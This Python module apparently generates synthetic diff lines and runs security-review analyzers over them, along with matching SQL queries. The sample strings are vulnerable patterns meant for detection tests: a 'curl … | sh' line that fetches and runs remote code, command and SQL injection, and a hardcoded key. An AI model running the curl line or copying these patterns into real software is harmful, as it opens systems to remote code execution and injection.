"""Queries of the rule catalogue, typed rules and analyzers over code-like lines, with their SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from vigilspark.functions import text as T
from vigilspark.operators import analyzers, rules
from vigilspark.operators.catalogue import BUILTIN
from vigilspark.operators.rules import Rule

# Code-like lines and paths: the test data hold prose.  Each event is a line, six events are a hunk.
TEXTS = (
    "requireAuth(handler{n})", "localStorage.setItem('token', t{n})", "const claims = jwt.decode(raw{n})", "if password == other{n} {", "api_key = 'abcd1234efgh5678'", "sameSite: 'none'",
    "secure: false", "const target = req.query.url", "const res = fetch(target)", "exec('ls ' + target)", "rows = db.query('select * from t where id=' + id{n})", "el.innerHTML = value{n}",
    "import admin from '../internal/admin/users'", "console.log(session.token)", "InsecureSkipVerify: true", "role: 'system', content: req.body.text", "Principal: '*' on bucket", "image: redis:latest",
    "uses: actions/checkout@main", "USER root", "FROM alpine:latest", "curl https://x.example/i.sh | sh", "publicKey used as hmac secret", "alg := token.header.alg", "verify(signature, key{n})",
    "\"expres\": \"latest\"", "\"lodash\": \"4.17.{n}\"", "registry=https://registry.npmjs.org", "sessionTimeout: {n}m", "maxAge: {n}h for cookie", "sameSite=strict", "bcrypt.hash(pw, 1{n})", "requireMFA: true", "skipMFA()",
    "maxAttempts = {n}", "DEBUG=true", "PORT: 80{n}", "MODE: open", "router.get('/x{n}', handler)", "tenant_id filter in where", "balance = find(x); update(x)", "ws = new WebSocket('ws://h')", "  plain words {n}", "café MD5(x) naïve",
)
PATHS = ("src/a.go", "web/app.tsx", "lib/x.py", "deploy/Dockerfile", "package.json", ".github/workflows/ci.yml", "conf/app.env", "src/routes/r.js", "docs/guide.md", "srv/testdata/t.go", "public/site.html", "yarn.lock")
TYPED = (
    Rule("typed.import", type="forbiddenImport", target="added", imports=(r"internal/admin",)),
    Rule("typed.guard", type="deletedLineGuard", target="deleted", require=(r"(?i)requireauth",)),
    Rule("typed.env", type="forbiddenEnv", target="added", keys=(r"^debug$",), forbidden_values=("true", "1")),
    Rule("typed.call", type="requiredCall", target="added", require=(r"router\.",), calls=(r"(?i)requireauth|verify\(",)),
    Rule("typed.port", type="configKeyConstraint", target="added", constraint_key="port", min_value=803, max_value=808),
    Rule("typed.mode", type="configKeyConstraint", target="added", keys=(r"(?i)^mode$",), allowed_values=("closed",)),
    Rule("typed.boundary", type="pathBoundary", target="added", paths=("web/**",), forbidden_paths=("**/admin/**",)),
)


#: Downgrades need a hunk with both sides of a setting: so many of the hunks above are one, and have the path of its number.
WIDER = 8


def code_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Five diffs in hunks of six lines, by event number."""
    e, at = F.col("event_id"), lambda items, i: F.get(F.array(*[F.lit(x) for x in items]), i.cast("int"))
    hunk = F.floor(e / 6)
    text = F.replace(at(TEXTS, (e * 7 + hunk) % len(TEXTS)), F.lit("{n}"), (e % 9).cast("string"))
    return spark.read.parquet(f"{sf_dir}/events.parquet").select((hunk % 5).cast("string").alias("diff_id"), F.lit(0).alias("file_ix"), hunk.alias("hunk_ix"), e.alias("line_ix"), at(PATHS, hunk % len(PATHS)).alias("path"), at(("added", "deleted", "added", "context"), (e * 5 + F.floor(e / 7)) % 4).alias("kind"), text.alias("text"), e.alias("old_no"), (e + 1).alias("new_no"))


def wider_hunks(spark: SparkSession, sf_dir: str) -> DataFrame:
    """code_lines() in hunks of eight times as many lines, as many as the events ask for."""
    wide = F.floor(F.col("hunk_ix") / WIDER)
    path = F.get(F.array(*[F.lit(x) for x in PATHS]), (wide % len(PATHS)).cast("int"))
    return code_lines(spark, sf_dir).withColumns({"hunk_ix": wide, "path": path, "diff_id": F.lit("d")})


_SHOWN = ("diff_id", "id", "rule_id", "severity", "confidence", "path", "line", "side", "snippet")


def catalogue_review(spark, sf_dir):
    return rules.evaluate(code_lines(spark, sf_dir), BUILTIN, skip_artifacts=True).select(*_SHOWN)


def typed_review(spark, sf_dir):
    return rules.evaluate(code_lines(spark, sf_dir), TYPED).select(*_SHOWN)


def strength_review(spark, sf_dir):
    return rules.downgrades(wider_hunks(spark, sf_dir)).select("hunk_ix", "path", "rule_id", "key", "was", "now")


def signal_review(spark, sf_dir):
    return analyzers.signals(code_lines(spark, sf_dir)).select(*_SHOWN)


def branch_review(spark, sf_dir):
    return analyzers.branches(code_lines(spark, sf_dir)).select(*_SHOWN)


def flow_review(spark, sf_dir):
    return analyzers.flows(code_lines(spark, sf_dir)).select(*_SHOWN)


QUERIES = {"catalogue_review": catalogue_review, "typed_review": typed_review, "strength_review": strength_review, "signal_review": signal_review, "branch_review": branch_review, "flow_review": flow_review}

_s = lambda v: "'" + v.replace("'", "''") + "'" if v else "NULL"
_list = lambda items: "[" + ", ".join(_s(x) for x in items) + "]"
_or = lambda c, words: "(" + " OR ".join(f"contains({c}, {_s(w)})" for w in words) + ")"
_paths = lambda globs: _s("|".join(T.glob_regex(g) for g in globs))
_LINES = f"""l AS (SELECT (event_id // 6 % 5)::VARCHAR AS diff_id, event_id // 6 AS hunk_ix, event_id AS line_ix, ({_list(PATHS)})[event_id // 6 % {len(PATHS)} + 1] AS path,
  (['added', 'deleted', 'added', 'context'])[(event_id * 5 + event_id // 7) % 4 + 1] AS kind, replace(({_list(TEXTS)})[(event_id * 7 + event_id // 6) % {len(TEXTS)} + 1], '{{n}}', (event_id % 9)::VARCHAR) AS text,
  event_id AS old_no, event_id + 1 AS new_no, CASE WHEN kind = 'deleted' THEN event_id ELSE event_id + 1 END AS no FROM events),
h AS (SELECT hunk_ix, string_agg(text, chr(10) ORDER BY line_ix) AS hunk, arg_min(no, line_ix) AS first_no, any_value(path) AS path, any_value(diff_id) AS diff_id FROM l GROUP BY hunk_ix)"""
_TABLE = ",\n".join(f"({i}, {_s(r.id)}, '{r.severity}', '{r.confidence}', '{r.target}', {_paths(r.paths)}, {_s(''.join(r.require))}, {_s(''.join(r.near))}, {_s(''.join(r.absent))}, {_s(''.join(r.imports))}, {r.mask})" for i, r in enumerate(BUILTIN))
_MODULE = f"coalesce(nullif(regexp_extract(text, {_s(rules.IMPORT)}, 2), ''), nullif(regexp_extract(text, {_s(rules.IMPORT)}, 3), ''), regexp_extract(text, {_s(rules.IMPORT)}, 4))"
_CODE = f"(regexp_matches(lower(path), '\\.(go|jsx?|mjs|cjs|tsx?|py|rb|java|kt|json|ya?ml|toml)$') AND NOT regexp_matches(lower(path), {_s(T.ARTIFACT)}))"
_MANIFEST = f"(NOT regexp_matches(lower(path), {_s(T.FIXTURE)}) AND regexp_matches(path, '\\.(json|ya?ml|toml)$|(go\\.mod|\\.npmrc|pip\\.conf)$'))"
_OUT = "diff_id, left(sha256(rule_id || '|' || path || '|' || no || '|' || kind || '|' || snippet), 16) AS id, rule_id, severity, confidence, path, no AS line, kind AS side, snippet"
_ONCE = "QUALIFY row_number() OVER (PARTITION BY diff_id, rule_id, path, no, kind, snippet ORDER BY hunk_ix, line_ix) = 1"
_typed = lambda rule, test: f"SELECT diff_id, hunk_ix, line_ix, '{rule}' AS rule_id, 'medium' AS severity, 'medium' AS confidence, path, no, kind, regexp_replace(text, '^[ \t]+|[ \t]+$', '', 'g') AS snippet FROM l JOIN h USING (hunk_ix, path, diff_id) WHERE {test}"
_sig = lambda rule, title, sev, test: f"SELECT diff_id, hunk_ix, '{rule}' AS rule_id, {_s(title)} AS title, '{sev}' AS severity, path, first_no FROM h WHERE {test}"
_LOW = "lower(hunk)"
_SIGNS = (f"{_CODE} AND {_or(_LOW, ('header[\"alg\"]', 'token.header.alg'))}", f"{_CODE} AND {_or(_LOW, ('header[\"kid\"]', 'token.header.kid'))}", f"{_CODE} AND {_or(_LOW, ('jku', 'jwk', 'x5u'))} AND {_or(_LOW, ('http.get', 'fetch(', 'axios'))}", f"{_CODE} AND contains({_LOW}, 'publickey') AND contains({_LOW}, 'hmac')",
          f"{_MANIFEST} AND {_or(_LOW, ('registry=https://registry.npmjs.org', 'index-url = https://pypi.org/simple'))}", f"{_MANIFEST} AND {_or(_LOW, ('\"latest\"', '\"*\"', '\"next\"'))}", f"{_MANIFEST} AND contains({_LOW}, 'replace ') AND contains({_LOW}, 'github.com')",
          f"{_MANIFEST} AND hunk_ix IN (SELECT hunk_ix FROM l WHERE kind = 'added' AND len(list_filter(regexp_split_to_array(lower(trim(text)), '[\": =><]+'), lambda w: len(list_filter({_list(analyzers.POPULAR)}, lambda p: levenshtein(w, p) = 1)) > 0)) > 0)")
_ms = "v * CASE u WHEN 's' THEN 1000 WHEN 'm' THEN 60000 WHEN 'h' THEN 3600000 WHEN 'd' THEN 86400000 ELSE 1 END"
_RULE_CTES = f"""r(ix, rule_id, severity, declared, target, paths, need, near, absent, imports, mask) AS (VALUES {_TABLE}),
t AS (SELECT DISTINCT text FROM l), p AS (SELECT DISTINCT path FROM l WHERE NOT regexp_matches(lower(path), {_s(T.ARTIFACT)})),
tr AS (SELECT text, ix FROM t, r WHERE regexp_matches(text, need) OR ({_MODULE} <> '' AND (regexp_matches({_MODULE}, imports) OR regexp_matches(text, imports)))),
pr AS (SELECT path, ix FROM p, r WHERE regexp_matches(path, paths)),
m AS (SELECT l.*, r.*, h.hunk FROM l JOIN tr USING (text) JOIN pr USING (path, ix) JOIN r USING (ix) JOIN h USING (hunk_ix) WHERE r.target IN ('any', l.kind)),
n AS (SELECT *, CASE WHEN imports IS NOT NULL THEN regexp_replace(text, '^[ \t]+|[ \t]+$', '', 'g') WHEN mask THEN regexp_replace(text, '([A-Za-z0-9_./+=-]{{4}})[A-Za-z0-9_./+=-]{{4,}}([A-Za-z0-9_./+=-]{{4}})', '\\1****\\2', 'g') ELSE text END AS snippet,
  CASE WHEN imports IS NOT NULL THEN declared ELSE (['low', 'medium', 'high'])[least(3, CASE declared WHEN 'high' THEN 3 WHEN 'medium' THEN 2 ELSE 1 END + 1 + (near IS NOT NULL)::INT)] END AS confidence
  FROM m WHERE (near IS NULL OR regexp_matches(hunk, near)) AND (absent IS NULL OR NOT regexp_matches(hunk, absent)))"""
_SIGNAL_ROWS = " UNION ALL ".join(_sig(r, t, s, test) for (r, t, _, s), test in zip(analyzers.SIGNATURE + analyzers.SUPPLY, _SIGNS))
_SIGNAL_OUT = """SELECT diff_id, left(sha256(rule_id || '|' || path || '|' || first_no || '|added|' || title), 16) AS id, rule_id, severity, 'medium' AS confidence, path, first_no AS line, 'added' AS side, 'semantic correlation inside diff hunk' AS snippet
FROM sig QUALIFY row_number() OVER (PARTITION BY diff_id, rule_id, path, first_no ORDER BY hunk_ix) = 1"""
_BRANCH_ROWS = " UNION ALL ".join(f"SELECT diff_id, {_s(r)} AS rule_id, left(sha256({_s(r + t + m)}), 16) AS id FROM l WHERE {_CODE} GROUP BY diff_id HAVING bool_or(kind = 'deleted' AND {_or('lower(text)', gone)}) AND bool_or(kind = 'added' AND {_or('lower(text)', come)})" for r, t, _, m, gone, come in analyzers.BRANCH)
_BRANCH_OUT = "SELECT diff_id, id, rule_id, 'critical' AS severity, 'medium' AS confidence, '<branch>' AS path, 1 AS line, 'branch' AS side, 'branch-level regression correlation' AS snippet FROM br"
SQL = {
    "catalogue_review": f"WITH {_LINES}, {_RULE_CTES} SELECT {_OUT} FROM n {_ONCE}",
    "typed_review": f"""WITH {_LINES}, n AS ({_typed("typed.import", f"kind = 'added' AND {_MODULE} <> '' AND regexp_matches(text, 'internal/admin')")}
UNION ALL {_typed("typed.guard", "kind = 'deleted' AND regexp_matches(text, '(?i)requireauth')")}
UNION ALL {_typed("typed.env", "kind = 'added' AND text = 'DEBUG=true'")}
UNION ALL {_typed("typed.call", "kind = 'added' AND contains(text, 'router.') AND NOT regexp_matches(hunk, '(?i)requireauth|verify\\(')")}
UNION ALL {_typed("typed.port", "kind = 'added' AND starts_with(text, 'PORT: ') AND NOT substr(text, 7)::INT BETWEEN 803 AND 808")}
UNION ALL {_typed("typed.mode", "kind = 'added' AND text = 'MODE: open'")}
UNION ALL {_typed("typed.boundary", f"kind = 'added' AND starts_with(path, 'web/') AND contains({_MODULE}, '/admin/')")})
SELECT {_OUT} FROM n {_ONCE}""",
    "strength_review": f"""WITH {_LINES}, c AS (SELECT * REPLACE (hunk_ix // {WIDER} AS hunk_ix, ({_list(PATHS)})[hunk_ix // {WIDER} % {len(PATHS)} + 1] AS path) FROM l WHERE kind <> 'context'), d AS (
  SELECT c.*, regexp_extract(text, {_s(rules.DURATION)}, 1) AS name, try_cast(regexp_extract(text, {_s(rules.DURATION)}, 2) AS BIGINT) AS v, lower(regexp_extract(text, {_s(rules.DURATION)}, 3)) AS u FROM c),
s AS (SELECT hunk_ix, path, kind, 'downgrade.cookie.lifetime' AS rule_id, 'lifetime' AS key, {_ms} AS v, 1 AS up FROM d WHERE name = 'maxAge'
  UNION ALL SELECT hunk_ix, path, kind, 'downgrade.timeout', lower(name), {_ms}, 1 FROM d WHERE name = 'sessionTimeout'
  UNION ALL SELECT hunk_ix, path, kind, 'downgrade.cookie.samesite', 'samesite', CASE WHEN contains(text, 'strict') THEN 3 ELSE 1 END, 0 FROM c WHERE starts_with(text, 'sameSite')
  UNION ALL SELECT hunk_ix, path, kind, 'downgrade.crypto.bcrypt', 'bcrypt', regexp_extract(text, '(\\d+)\\)$', 1)::BIGINT, 0 FROM c WHERE starts_with(text, 'bcrypt.')
  UNION ALL SELECT hunk_ix, path, kind, 'downgrade.auth.ratelimit', 'maxattempts', regexp_extract(text, '\\d+$')::BIGINT, 1 FROM c WHERE starts_with(text, 'maxAttempts')
  UNION ALL SELECT hunk_ix, path, kind, 'downgrade.auth.mfa', 'mfa', contains(text, 'true')::BIGINT, 0 FROM c WHERE text IN ('requireMFA: true', 'skipMFA()')),
g AS (SELECT hunk_ix, path, rule_id, key, up, CASE WHEN up = 1 THEN min(v) FILTER (kind = 'deleted') ELSE max(v) FILTER (kind = 'deleted') END AS was, CASE WHEN up = 1 THEN max(v) FILTER (kind = 'added') ELSE min(v) FILTER (kind = 'added') END AS now FROM s GROUP BY hunk_ix, path, rule_id, key, up)
SELECT hunk_ix, path, rule_id, key, was, now FROM g WHERE (up = 1 AND now > was) OR (up = 0 AND now < was)""",
    "signal_review": f"WITH {_LINES}, sig AS ({_SIGNAL_ROWS}) {_SIGNAL_OUT}",
    "branch_review": f"WITH {_LINES}, br AS ({_BRANCH_ROWS}) {_BRANCH_OUT}",

}
